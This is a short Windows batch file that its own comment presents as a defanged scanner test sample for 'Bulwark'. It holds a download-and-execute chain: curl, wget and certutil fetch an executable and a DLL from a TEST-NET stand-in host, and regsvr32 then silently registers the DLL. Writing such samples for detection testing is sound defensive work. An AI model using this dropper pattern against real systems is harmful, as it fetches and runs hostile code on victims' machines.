@echo off
REM DEFANGED re-creation for Bulwark's scanner tests. Never run. Addresses are TEST-NET.
curl http://192.0.2.10/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://192.0.2.10/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://192.0.2.10/download/jsextension.exe jsextension.exe
)
curl http://192.0.2.10/sdd.dll -o create.dll
certutil.exe -urlcache -f http://192.0.2.10/sdd.dll create.dll
regsvr32.exe -s create.dll
